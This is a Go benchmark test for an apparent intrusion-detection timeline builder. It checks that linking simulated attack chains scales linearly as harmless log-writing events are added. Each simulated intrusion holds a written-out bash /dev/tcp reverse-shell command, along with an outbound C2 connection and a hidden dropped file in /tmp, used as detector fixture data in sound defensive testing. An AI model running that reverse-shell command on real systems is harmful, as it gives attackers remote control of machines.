package timeline

import (
	"fmt"
	"testing"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

// BenchmarkBuild links many unrelated intrusions among many benign file
// writes and connects. Its time per op should grow with the events, not
// with chains × events: compare the two sizes (4× the intrusions and 4×
// the benign events should cost about 4×, not 16×).
func BenchmarkBuild(b *testing.B) {
	for _, n := range []int{100, 400} {
		b.Run(fmt.Sprintf("intrusions=%d", n), func(b *testing.B) {
			s := newSim(b, Options{})
			s.webServer()
			for i := range n {
				at := float64(10 + i*1200) // more than Gap apart: separate intrusions
				sh := shellOf(10000+i*10, worker1, "/var/www/html/uploads")
				peer := fmt.Sprintf("198.51.%d.%d", i/250, i%250+1)
				s.find(s.exec(at, sh, "sh", "-c", "bash -i >& /dev/tcp/"+peer+"/4444 0>&1"),
					detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
				s.find(s.connect(at+0.1, sh, peer, 4444), detect.StageCommandAndControl, detect.SeverityHigh, "Outbound Connection")
				drop := child(10000+i*10+1, sh)
				s.find(s.write(at+1, drop, parser.KindFileWrite, fmt.Sprintf("/tmp/.x%d", i)),
					detect.StageCommandExecution, detect.SeverityMedium, "Dropped File")
				daemon := who{pid: 50000 + i, ppid: 1, uid: 0, exe: "/usr/sbin/logd"}
				for j := range 100 {
					s.write(at+2+float64(j)/100, daemon, parser.KindFileWrite, fmt.Sprintf("/var/log/app/%d.log", j))
					s.connect(at+2+float64(j)/100, daemon, "192.0.2.10", 514)
				}
			}
			b.ResetTimer()
			for range b.N {
				if r := s.build(); len(r.Chains) < n {
					b.Fatalf("%d chains for %d intrusions", len(r.Chains), n)
				}
			}
		})
	}
}
